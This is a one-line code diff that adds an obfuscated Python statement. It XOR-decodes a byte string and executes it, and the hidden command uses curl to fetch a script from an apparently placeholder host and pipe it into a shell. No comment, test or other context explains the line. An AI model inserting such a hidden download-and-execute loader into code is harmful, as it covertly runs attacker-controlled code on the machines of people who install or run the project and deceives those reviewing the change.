@@ -1,0 +1,1 @@
+exec(bytes(b ^ 0x33 for b in b'Z^C\\AG\x13\\@\x08\\@\x1d@J@GV^\x1b\x11PFA_\x13\x1e@\x13[GGC\t\x1c\x1c[\\\x01\x02\x1dVKR^C_V\x1dZ]ER_ZW\x1c]O@[\x11\x1a'))
